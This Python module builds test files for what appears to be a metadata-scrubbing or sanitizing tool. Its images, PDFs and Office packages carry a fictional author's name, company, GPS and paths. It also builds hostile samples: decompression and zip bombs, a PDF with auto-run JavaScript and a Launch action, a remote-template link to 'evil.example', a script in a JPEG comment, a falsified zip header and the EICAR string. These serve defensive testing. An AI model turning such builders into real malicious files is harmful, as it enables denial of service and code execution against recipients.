"""Makers of files: good ones that say much about their makers, and bad ones of every sort."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from typing import Any

import openpyxl
import pikepdf
from openpyxl.comments import Comment
from PIL import Image, PngImagePlugin

# What must not stand in any public copy.
SECRETS = ("Wang Xiaoming", "王小明", "Secret Water Ltd", "C:\\Users\\wang", "Nikon Z9", "31.2304")

TYPES = "[Content_Types].xml"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>%s</Types>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


# Pictures -------------------------------------------------------------------------------------------------


def exif() -> Image.Exif:
    """What a telephone writes: who, with what, where; and how it was held."""
    told = Image.Exif()
    told[0x013B], told[0x0110], told[0x010E] = "Wang Xiaoming", "Nikon Z9", "At Secret Water Ltd"
    told[0x0112] = 6  # turned to the right
    told.get_ifd(0x8825).update({1: "N", 2: (31.0, 13.0, 49.44), 3: "E", 4: (121.0, 28.0, 25.0)})
    return told


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Wang Xiaoming"/>'
    b"</rdf:RDF></x:xmpmeta>"
)


def jpeg(size: tuple[int, int] = (40, 20)) -> bytes:
    """Left half red, right half blue; on its side."""
    picture = Image.new("RGB", size, "red")
    picture.paste("blue", (size[0] // 2, 0, *size))
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif(), comment=b"By Wang Xiaoming", xmp=XMP, quality=95)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 20)) -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Author", "Wang Xiaoming")
    told.add_itxt("Comment", "王小明", zip=False)
    out = io.BytesIO()
    Image.new("RGBA", size, (255, 0, 0, 128)).save(out, "PNG", pnginfo=told, exif=exif())
    return out.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A picture of one colour: a few hundred bytes that would take gigabytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg_with_page() -> bytes:
    """A picture whose comment a browser would run, if it took the file for a page."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "JPEG", comment=b"<html><script>alert(1)</script>")
    return out.getvalue()


# PDF ------------------------------------------------------------------------------------------------------


def pdf(*, owner: str = "", user: str = "", harmless: bool = False) -> bytes:
    """One page; unless `harmless`, with all that a PDF can tell and do besides."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(200, 200))
    page.Contents = made.make_stream(b"BT /F1 12 Tf 20 100 Td (Meters in town) Tj ET")
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=made.make_indirect(font)))
    if not harmless:
        _tell_all(made, page)
    out = io.BytesIO()
    locked = pikepdf.Encryption(owner=owner, user=user) if owner else None
    made.save(out, encryption=locked, deterministic_id=not owner)
    return out.getvalue()


def _tell_all(made: pikepdf.Pdf, page: Any) -> None:
    named = pikepdf.Name
    made.docinfo["/Author"], made.docinfo["/Company"] = "Wang Xiaoming", "Secret Water Ltd"
    made.Root.Metadata = made.make_stream(XMP)
    script = pikepdf.Dictionary(S=named.JavaScript, JS="app.alert('Wang Xiaoming')")
    made.Root.OpenAction = script
    made.Root.AA = pikepdf.Dictionary(WC=script)
    made.attachments["plan.txt"] = b"Wang Xiaoming's plan"
    made.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array(["run", script]))
    picture = made.make_stream(jpeg())
    picture.update({"/Type": named.XObject, "/Subtype": named.Image, "/Width": 40, "/Height": 20})
    picture.update({"/ColorSpace": named.DeviceRGB, "/BitsPerComponent": 8, "/Filter": named.DCTDecode})
    page.Resources.XObject = pikepdf.Dictionary(Im1=picture)
    box = pikepdf.Array([10, 10, 50, 50])

    def annotation(kind: str, **more: Any) -> pikepdf.Object:
        given = {"Type": named.Annot, "Subtype": pikepdf.Name(kind), "Rect": box, **more}
        return made.make_indirect(pikepdf.Dictionary(**given))

    page.Annots = pikepdf.Array(
        [
            annotation("/Text", T="Wang Xiaoming", Contents="Who pays for this?"),
            annotation("/Link", A=pikepdf.Dictionary(S=named.URI, URI="https://example.org/"), T="王小明"),
            annotation("/Link", A=pikepdf.Dictionary(S=named.Launch, F="C:\\Users\\wang\\run.exe")),
        ]
    )


# Office files ---------------------------------------------------------------------------------------------


def package(
    parts: Mapping[str, bytes | str], *, types: str = "", compression: int = zipfile.ZIP_DEFLATED
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr(TYPES, CONTENT_TYPES % types)
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(parts: Mapping[str, bytes | str] | None = None, *, types: str = "", relations: str = "") -> bytes:
    """A document with further parts; its maker stands in properties, comments and changes."""
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p>%s</w:p></w:body></w:document>'
    change = '<w:ins w:id="1" w:author="Wang Xiaoming"><w:r><w:t>Meters</w:t></w:r></w:ins>'
    link = f'<Relationship Id="r1" Type="{OFFICE}/hyperlink" Target="%s" TargetMode="External"/>'
    return package(
        {
            "_rels/.rels": RELATIONS
            % f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
            '<Relationship Id="r2" Type="t" Target="docProps/thumbnail.jpeg"/>',
            "word/document.xml": body % change,
            "word/_rels/document.xml.rels": RELATIONS % (link % "file:///C:\\Users\\wang\\plan.docx" + relations),
            "word/comments.xml": f'<w:comments xmlns:w="{WORD}">'
            '<w:comment w:id="1" w:author="王小明" w:initials="WX"/>'
            "</w:comments>",
            "word/media/image1.jpeg": jpeg(),
            "word/media/image2.png": png(),
            "docProps/core.xml": "<cp:coreProperties><dc:creator>Wang Xiaoming</dc:creator>"
            "<cp:lastModifiedBy>王小明</cp:lastModifiedBy></cp:coreProperties>",
            "docProps/app.xml": "<Properties><Company>Secret Water Ltd</Company></Properties>",
            "docProps/custom.xml": "<Properties><property><v>Secret Water Ltd</v></property></Properties>",
            "docProps/thumbnail.jpeg": jpeg(),
            **(parts or {}),
        },
        types=types,
    )


def xlsx() -> bytes:
    """A table with its maker in the properties and in a remark, as a program writes it."""
    book = openpyxl.Workbook()
    book.properties.creator = book.properties.lastModifiedBy = "Wang Xiaoming"
    book.active.append(["month", "meters"])
    book.active.append(["2026-01", 120_000])
    book.active["A1"].comment = Comment("Who counted?", "王小明")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def external(kind: str, target: str = "https://evil.example/t.dotm") -> str:
    return f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def zip_bomb(size: int = 60 << 20) -> bytes:
    """Zeros, packed a thousand times smaller."""
    return docx({"word/media/blank.bmp": b"\0" * size})


def lying_package() -> bytes:
    """The list of parts says that a part has ten bytes; there are two million."""
    made = bytearray(docx({"word/lie.xml": b"<a>" + b" " * 2_000_000 + b"</a>"}))
    at = made.rindex(b"word/lie.xml") - 46  # its entry in the list at the end
    made[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(made)


def locked_package() -> bytes:
    made = bytearray(docx())
    at = made.rindex(b"word/document.xml") - 46
    made[at + 8] |= 1
    return bytes(made)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
